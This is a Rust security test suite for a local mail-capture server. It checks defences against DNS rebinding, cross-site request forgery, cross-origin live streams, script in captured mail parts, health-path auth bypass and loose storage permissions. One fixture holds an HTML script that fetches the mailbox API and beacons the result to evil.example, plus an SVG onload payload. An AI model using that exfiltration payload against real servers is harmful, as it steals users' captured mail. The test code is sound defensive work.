//! The web boundary against the real binary (../shared/spec/security.md items 1–4 and 11): the
//! Host rule, the Origin rule on changes and live streams, JSON-only bodies, the headers that keep
//! captured bytes inert, exact health paths, and private storage files. Each test names the attack
//! it stops; the browser tests (tests/browser/boundary.test.mjs) replay the same attacks from a
//! real foreign page.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use common::{HttpResponse, Server, TempDir, http_with, send_mail};

const EVIL: &str = "http://evil.example";

fn host(server: &Server) -> String {
    server.http.to_string()
}

fn get(server: &Server, path: &str, headers: &[(&str, &str)]) -> HttpResponse {
    let h = host(server);
    let mut all = vec![("Host", h.as_str())];
    all.extend_from_slice(headers);
    http_with(server.http, "GET", path, &all, b"")
}

fn call(
    server: &Server,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> HttpResponse {
    let h = host(server);
    let mut all = vec![("Host", h.as_str())];
    all.extend_from_slice(headers);
    http_with(server.http, method, path, &all, body)
}

fn total(server: &Server) -> u64 {
    server.list()["total"].as_u64().unwrap_or(u64::MAX)
}

fn assert_json_error(response: &HttpResponse, status: u16, mentions: &str) {
    assert_eq!(response.status, status, "{}", response.text());
    assert!(
        response
            .header("content-type")
            .is_some_and(|t| t.starts_with("application/json")),
        "{:?}",
        response.headers
    );
    let json: serde_json::Value = serde_json::from_slice(&response.body).expect("JSON error");
    let error = json["Error"].as_str().unwrap_or_default();
    assert!(error.contains(mentions), "{error}");
}

/// Attack 3, DNS rebinding: a page whose dotted name resolves to 127.0.0.1 reads the API as
/// same-origin. Only names no rebinding page can have are served.
#[test]
fn only_hosts_a_rebinding_page_cannot_have_are_served() {
    let server = Server::start();
    send_mail(
        server.smtp,
        &["bob@example.com"],
        b"Subject: secret\r\n\r\nreset code 123456\r\n",
    );
    let port = server.http.port();
    for refused in [
        format!("rebind.attacker.example:{port}"),
        format!("127.0.0.1.nip.io:{port}"),
        "localhost.evil.example".to_string(),
    ] {
        let response = http_with(
            server.http,
            "GET",
            "/api/v1/messages",
            &[("Host", &refused)],
            b"",
        );
        assert_json_error(&response, 403, "--allowed-hosts");
        assert!(!response.text().contains("secret"));
    }
    for served in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("app.localhost:{port}"),
        format!("[::1]:{port}"),
        // docker-compose service names
        format!("mail:{port}"),
        "mailhog".to_string(),
    ] {
        let response = http_with(
            server.http,
            "GET",
            "/api/v1/messages",
            &[("Host", &served)],
            b"",
        );
        assert_eq!(response.status, 200, "Host {served}: {}", response.text());
    }
    // Probes may use any name.
    let probe = http_with(
        server.http,
        "GET",
        "/livez",
        &[("Host", "mail.cluster.example")],
        b"",
    );
    assert_eq!(probe.status, 200);
    // The refusal is logged once per client, not once per request.
    assert_eq!(
        server.stderr().matches("DNS-rebinding guard").count(),
        1,
        "{}",
        server.stderr()
    );

    let team = Server::start_with(&["--allowed-hosts", "mail.team.example,*.staging.example"]);
    for name in ["mail.team.example", "a.staging.example:8025"] {
        let response = http_with(team.http, "GET", "/api/v1/messages", &[("Host", name)], b"");
        assert_eq!(response.status, 200, "{name}");
    }
    let other = http_with(
        team.http,
        "GET",
        "/api/v1/messages",
        &[("Host", "evil.example")],
        b"",
    );
    assert_eq!(other.status, 403);
    let open = Server::start_with(&["--allowed-hosts", "*"]);
    let any = http_with(
        open.http,
        "GET",
        "/api/v1/messages",
        &[("Host", "evil.example")],
        b"",
    );
    assert_eq!(any.status, 200);
}

/// Attack 4, CSRF by simple requests: a page posts a form or text/plain body (no preflight) to
/// plant mail or switch on Jim; and any cross-origin change is refused.
#[test]
fn pages_cannot_change_anything() {
    let server = Server::start();
    send_mail(
        server.smtp,
        &["bob@example.com"],
        b"Subject: keep me\r\n\r\nbody\r\n",
    );
    let send = br#"{"From":{"Email":"a@example.com"},"To":[{"Email":"b@example.com"}],"Subject":"planted"}"#;
    for content_type in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
    ] {
        let response = call(
            &server,
            "POST",
            "/api/v1/send",
            &[("Content-Type", content_type)],
            send,
        );
        assert_json_error(&response, 415, "application/json");
        let jim = call(
            &server,
            "POST",
            "/api/v2/jim",
            &[("Content-Type", content_type)],
            b"{}",
        );
        assert_eq!(jim.status, 415, "{}", jim.text());
    }
    let no_type = call(&server, "POST", "/api/v1/send", &[], send);
    assert_eq!(no_type.status, 415);
    assert_eq!(total(&server), 1, "nothing was planted");
    assert_eq!(
        get(&server, "/api/v2/jim", &[]).status,
        404,
        "Jim stayed off"
    );

    // The same requests from a foreign page, even as JSON, are refused by origin.
    let json = [("Content-Type", "application/json"), ("Origin", EVIL)];
    assert_json_error(
        &call(&server, "POST", "/api/v1/send", &json, send),
        403,
        "evil.example",
    );
    assert_eq!(
        call(
            &server,
            "DELETE",
            "/api/v1/messages",
            &[("Origin", EVIL)],
            b""
        )
        .status,
        403
    );
    assert_eq!(
        call(
            &server,
            "PUT",
            "/api/v1/messages",
            &json,
            br#"{"Read":true}"#
        )
        .status,
        403
    );
    assert_eq!(
        call(
            &server,
            "PUT",
            "/api/v1/chaos",
            &json,
            br#"{"Sender":{"ErrorCode":451,"Probability":100}}"#
        )
        .status,
        403
    );
    assert_eq!(
        call(
            &server,
            "DELETE",
            "/api/v1/search?query=keep",
            &[("Origin", "null")],
            b""
        )
        .status,
        403
    );
    // A browser that sends no Origin still says who sent it.
    assert_eq!(
        call(
            &server,
            "DELETE",
            "/api/v1/messages",
            &[("Sec-Fetch-Site", "cross-site")],
            b""
        )
        .status,
        403
    );
    assert_eq!(total(&server), 1, "nothing was deleted");
    assert_eq!(server.list()["unread"], 1, "nothing was marked read");

    // The UI (same origin) and tools (no Origin) work as before.
    let own = format!("http://{}", server.http);
    let ok = call(
        &server,
        "POST",
        "/api/v1/send",
        &[("Content-Type", "application/json"), ("Origin", &own)],
        send,
    );
    assert_eq!(ok.status, 200, "{}", ok.text());
    let ok = call(
        &server,
        "POST",
        "/api/v1/send",
        &[("Content-Type", "application/json")],
        send,
    );
    assert_eq!(ok.status, 200, "{}", ok.text());
    assert_eq!(total(&server), 3);
    let ok = call(
        &server,
        "DELETE",
        "/api/v1/messages",
        &[("Origin", &own), ("Sec-Fetch-Site", "same-origin")],
        b"",
    );
    assert_eq!(ok.status, 200);
    assert_eq!(total(&server), 0);
}

/// Reads a response head only (a 101 leaves the connection open).
fn handshake(server: &Server, path: &str, origin: Option<&str>) -> u16 {
    let mut stream = TcpStream::connect(server.http).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let mut request = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        server.http
    );
    if let Some(origin) = origin {
        request.push_str(&format!("Origin: {origin}\r\n"));
    }
    request.push_str("\r\n");
    stream.write_all(request.as_bytes()).expect("write");
    status_of(&mut stream)
}

fn status_of(stream: &mut TcpStream) -> u16 {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => head.push(byte[0]),
            _ => break,
        }
    }
    let text = String::from_utf8_lossy(&head);
    text.split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// Attack 2, cross-site live streams: a foreign page opens the WebSocket or the event stream and
/// receives every new mail (MailHog's socket sends whole messages).
#[test]
fn live_streams_refuse_foreign_pages() {
    let server = Server::start();
    for path in ["/api/events", "/api/v2/websocket"] {
        assert_eq!(handshake(&server, path, Some(EVIL)), 403, "{path}");
        assert_eq!(handshake(&server, path, Some("null")), 403, "{path}");
        let own = format!("http://{}", server.http);
        assert_eq!(
            handshake(&server, path, Some(&own)),
            101,
            "{path} from the UI"
        );
        assert_eq!(
            handshake(&server, path, None),
            101,
            "{path} from a test client"
        );
    }
    let sse = get(
        &server,
        "/api/v1/events",
        &[("Accept", "text/event-stream"), ("Origin", EVIL)],
    );
    assert_eq!(sse.status, 403);
    // A same-origin stream opens (its head arrives; the body never ends).
    let mut stream = TcpStream::connect(server.http).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let request = format!(
        "GET /api/v1/events HTTP/1.1\r\nHost: {0}\r\nAccept: text/event-stream\r\nOrigin: http://{0}\r\n\r\n",
        server.http
    );
    stream.write_all(request.as_bytes()).expect("write");
    assert_eq!(status_of(&mut stream), 200);
}

/// A message with the hostile parts of attack 1: an HTML attachment and an SVG with script, both
/// referenced by `cid:` from the HTML body's links and images.
const HOSTILE: &[u8] = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: parts\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n\
--b\r\nContent-Type: text/html\r\n\r\n\
<a id=l href=\"cid:page@x\">open</a><img src=\"cid:pic@x\"><a href=\"cid:svg@x\">svg</a>\r\n\
--b\r\nContent-Type: text/html; name=page.html\r\nContent-ID: <page@x>\r\n\r\n\
<script>fetch('/api/v1/messages').then(r=>r.text()).then(t=>navigator.sendBeacon('http://evil.example/',t))</script>\r\n\
--b\r\nContent-Type: image/svg+xml; name=x.svg\r\nContent-ID: <svg@x>\r\n\r\n\
<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n\
--b\r\nContent-Type: image/png; name=pic.png\r\nContent-ID: <pic@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n\
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==\r\n\
--b--\r\n";

/// Attack 1, script in our origin through a part: parts, raw mail and views are inert.
#[test]
fn captured_bytes_never_render_in_our_origin() {
    let server = Server::start();
    let id = send_mail(server.smtp, &["b@example.com"], HOSTILE);
    let sandboxed = |response: &HttpResponse, what: &str| {
        let csp = response
            .header("content-security-policy")
            .unwrap_or_default();
        assert!(
            csp.starts_with("sandbox") && csp.contains("default-src 'none'"),
            "{what}: {csp}"
        );
        assert!(!csp.contains("allow-scripts"), "{what}: {csp}");
        assert_eq!(
            response.header("x-content-type-options"),
            Some("nosniff"),
            "{what}"
        );
    };
    for (part, kind) in [("2", "text/html"), ("3", "image/svg+xml")] {
        let response = get(&server, &format!("/api/v1/message/{id}/part/{part}"), &[]);
        assert_eq!(response.status, 200);
        assert!(
            response
                .header("content-type")
                .is_some_and(|t| t.starts_with(kind))
        );
        let disposition = response.header("content-disposition").unwrap_or_default();
        assert!(
            disposition.starts_with("attachment"),
            "{kind} is a download: {disposition}"
        );
        sandboxed(&response, kind);
    }
    let png = get(&server, &format!("/api/v1/message/{id}/part/4"), &[]);
    assert!(
        png.header("content-disposition")
            .is_some_and(|d| d.starts_with("inline")),
        "raster images show inline"
    );
    sandboxed(&png, "png");
    for path in [
        format!("/api/v1/message/{id}/raw"),
        format!("/api/v1/message/{id}/raw?dl=1"),
        format!("/view/{id}.txt"),
        format!("/view/{id}.html"),
        format!("/api/v1/messages/{id}/download"),
        format!("/api/v1/messages/{id}/mime/part/1/download"),
        format!("/api/v1/message/{id}"),
    ] {
        let response = get(&server, &path, &[]);
        assert_eq!(response.status, 200, "{path}");
        sandboxed(&response, &path);
    }
    let view = get(&server, &format!("/view/{id}.html"), &[]);
    let html = view.text();
    // Images load from the part route; links are not pointed at parts.
    assert!(
        html.contains(&format!("src=\"../api/v1/message/{id}/part/4\"")),
        "{html}"
    );
    assert!(
        html.contains("href=\"cid:page@x\"") && html.contains("href=\"cid:svg@x\""),
        "{html}"
    );
    let csp = view.header("content-security-policy").unwrap_or_default();
    assert!(
        !csp.contains("allow-popups-to-escape-sandbox") && !csp.contains("allow-popups"),
        "{csp}"
    );
    assert!(csp.contains("frame-ancestors 'self'"), "{csp}");
    // The UI keeps its own strict policy.
    let ui = get(&server, "/", &[]);
    let ui_csp = ui.header("content-security-policy").unwrap_or_default();
    assert!(
        ui_csp.contains("script-src 'self'") && !ui_csp.contains("unsafe-inline"),
        "{ui_csp}"
    );
}

/// Attack 11: health paths were matched by suffix, so `/api/v1/message/livez` skipped Basic auth.
#[test]
fn only_the_exact_health_paths_skip_basic_auth() {
    let dir = TempDir::new("security-auth");
    let file = dir.path("users");
    std::fs::write(&file, "team:secret\n").expect("write auth file");
    let file = file.to_string_lossy().into_owned();
    let server = Server::start_with(&["--http-auth-file", &file]);
    send_mail(
        server.smtp,
        &["b@example.com"],
        b"Subject: behind auth\r\n\r\nbody\r\n",
    );
    for open in ["/livez", "/readyz"] {
        assert_eq!(get(&server, open, &[]).status, 200, "{open}");
    }
    for closed in [
        "/api/v1/message/livez",
        "/api/v1/message/latest/livez",
        "/x/readyz",
        "/api/v1/messages?livez",
        "/livez/../api/v1/messages",
    ] {
        assert_eq!(get(&server, closed, &[]).status, 401, "{closed}");
    }
    // Credentials do not open the door to a foreign page, and a refused origin learns nothing of
    // whether they were right.
    let basic = "Basic dGVhbTpzZWNyZXQ="; // team:secret
    assert_eq!(
        get(&server, "/api/v1/messages", &[("Authorization", basic)]).status,
        200
    );
    let forged = call(
        &server,
        "DELETE",
        "/api/v1/messages",
        &[("Authorization", basic), ("Origin", EVIL)],
        b"",
    );
    assert_eq!(forged.status, 403);
    let wrong = call(
        &server,
        "DELETE",
        "/api/v1/messages",
        &[("Authorization", "Basic eDp5"), ("Origin", EVIL)],
        b"",
    );
    assert_eq!(wrong.status, 403);
    assert_eq!(
        get(&server, "/api/v1/messages", &[("Authorization", basic)]).status,
        200
    );
    let list = http_with(
        server.http,
        "GET",
        "/api/v1/messages",
        &[("Host", &host(&server)), ("Authorization", basic)],
        b"",
    );
    assert!(list.text().contains("behind auth"));
}

/// CORS (`--cors-origin`): a list, matched case-insensitively; preflights need no credentials;
/// other origins are refused outright, as Mailpit does.
#[test]
fn cors_allows_exactly_the_listed_origins() {
    let dir = TempDir::new("security-cors");
    let file = dir.path("users");
    std::fs::write(&file, "team:secret\n").expect("write auth file");
    let file = file.to_string_lossy().into_owned();
    let server = Server::start_with(&[
        "--cors-origin",
        "https://App.example tools.example",
        "--http-auth-file",
        &file,
    ]);
    let preflight = call(
        &server,
        "OPTIONS",
        "/api/v1/messages",
        &[
            ("Origin", "https://app.example"),
            ("Access-Control-Request-Method", "DELETE"),
        ],
        b"",
    );
    assert_eq!(preflight.status, 204);
    assert_eq!(
        preflight.header("access-control-allow-origin"),
        Some("https://app.example")
    );
    assert!(
        preflight
            .header("access-control-allow-methods")
            .is_some_and(|m| m.contains("DELETE"))
    );
    let basic = "Basic dGVhbTpzZWNyZXQ=";
    let read = get(
        &server,
        "/api/v1/messages",
        &[
            ("Origin", "http://tools.example:3000"),
            ("Authorization", basic),
        ],
    );
    assert_eq!(read.status, 200);
    assert_eq!(
        read.header("access-control-allow-origin"),
        Some("http://tools.example:3000")
    );
    let other = get(
        &server,
        "/api/v1/messages",
        &[("Origin", EVIL), ("Authorization", basic)],
    );
    assert_eq!(other.status, 403);
    assert!(other.header("access-control-allow-origin").is_none());
}

/// Attack 11: `--storage` files were readable by every local user.
#[test]
fn storage_is_private_to_its_user() {
    use std::os::unix::fs::PermissionsExt;
    let dir = TempDir::new("security-storage");
    let root = dir.path("mail");
    let root_arg = root.to_string_lossy().into_owned();
    let server = Server::start_with(&["--storage", &root_arg]);
    send_mail(
        server.smtp,
        &["b@example.com"],
        b"Subject: private\r\n\r\nbody\r\n",
    );
    let mode =
        |p: &std::path::Path| std::fs::metadata(p).expect("metadata").permissions().mode() & 0o777;
    assert_eq!(mode(&root), 0o700, "{}", root.display());
    let mut files = 0;
    for sub in ["cur", "envelope", "tmp", "new"] {
        let sub = root.join(sub);
        assert_eq!(mode(&sub), 0o700, "{}", sub.display());
        for entry in std::fs::read_dir(&sub).expect("read dir") {
            let path = entry.expect("entry").path();
            assert_eq!(mode(&path), 0o600, "{}", path.display());
            files += 1;
        }
    }
    assert_eq!(files, 2, "the message and its envelope");
    drop(server);
    // A directory made by an older version is tightened at start.
    std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let again = Server::start_with(&["--storage", &root_arg]);
    assert_eq!(mode(&root), 0o700);
    assert_eq!(again.list()["total"], 1);
}

/// `Authorization: Basic` for `user:password`.
fn basic(user_password: &str) -> String {
    use base64::Engine;
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(user_password)
    )
}

#[test]
fn the_send_api_can_have_credentials_of_its_own_or_none() {
    let send = |server: &Server, auth: Option<&str>| {
        let body = br#"{"From":{"Email":"app@example.com"},"To":[{"Email":"b@example.com"}],"Subject":"s"}"#;
        let mut headers = vec![("Content-Type", "application/json".to_string())];
        if let Some(auth) = auth {
            headers.push(("Authorization", basic(auth)));
        }
        let headers: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
        call(server, "POST", "/api/v1/send", &headers, body).status
    };
    let list = |server: &Server, auth: Option<&str>| {
        let value = auth.map(basic);
        let headers: Vec<(&str, &str)> = value
            .iter()
            .map(|v| ("Authorization", v.as_str()))
            .collect();
        get(server, "/api/v1/messages", &headers).status
    };

    // Its own credentials: only those open it, and they open nothing else.
    let server = Server::start_with(&["--http-auth", "team:s3cret", "--send-api-auth", "app:key"]);
    assert_eq!(send(&server, Some("app:key")), 200);
    assert_eq!(send(&server, Some("team:s3cret")), 401);
    assert_eq!(send(&server, None), 401);
    assert_eq!(list(&server, Some("app:key")), 401);
    assert_eq!(list(&server, Some("team:s3cret")), 200);

    // Accept any: the send API is open while the UI keeps its password.
    let server = Server::start_with(&["--http-auth", "team:s3cret", "--send-api-auth-accept-any"]);
    assert_eq!(send(&server, None), 200);
    assert_eq!(send(&server, Some("who:ever")), 200);
    assert_eq!(list(&server, None), 401);

    // Without either, the send API is the UI's: the UI's password, and only it.
    let server = Server::start_with(&["--http-auth", "team:s3cret"]);
    assert_eq!(send(&server, None), 401);
    assert_eq!(send(&server, Some("team:s3cret")), 200);

    // Both at once is refused at startup, as Mailpit does.
    let run = common::run_with_timeout(
        std::path::Path::new(env!("CARGO_BIN_EXE_mailsnare")),
        &[
            "--send-api-auth",
            "a:b",
            "--send-api-auth-accept-any",
            "--smtp",
            "127.0.0.1:0",
            "--http",
            "127.0.0.1:0",
        ],
        b"",
        Duration::from_secs(10),
    );
    assert!(!run.status.success(), "{}", run.stderr);
    assert!(
        run.stderr.contains("send-api-auth-accept-any"),
        "{}",
        run.stderr
    );
}
